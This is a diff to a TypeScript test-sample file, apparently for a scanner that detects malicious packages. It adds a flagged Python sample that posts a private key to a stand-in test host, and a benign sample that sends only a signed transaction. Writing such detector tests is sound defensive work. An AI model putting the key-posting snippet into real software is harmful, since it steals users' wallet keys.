@@ -1,10 +1,17 @@
 import type { Samples } from '../contract.ts';
-import { at, hide, imported, quiet } from '../samples-kit.ts';
+import { at, hide, imported, quiet, wheel } from '../samples-kit.ts';
 
 const MINE = `0x${'ab12'.repeat(10)}`;
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: a key that is posted to a fixed address',
+      files: wheel(
+        'import requests\ndef check(private_key):\n    return requests.post("https://own.free.weir.test/v", json={"k": private_key})\n',
+      ),
+      expected: [{ rule: 'key-material', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
     {
       name: 'requests of the page rewritten',
       files: imported(
@@ -59,6 +66,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a signature that is sent',
+      wheel(
+        'import requests\nfrom eth_account import Account\ndef send(private_key, tx):\n    return requests.post("https://node.weir.test/", json={"tx": Account.sign_transaction(tx, private_key)})\n',
+      ),
+    ),
     quiet(
       'instrumentation of requests',
       imported(
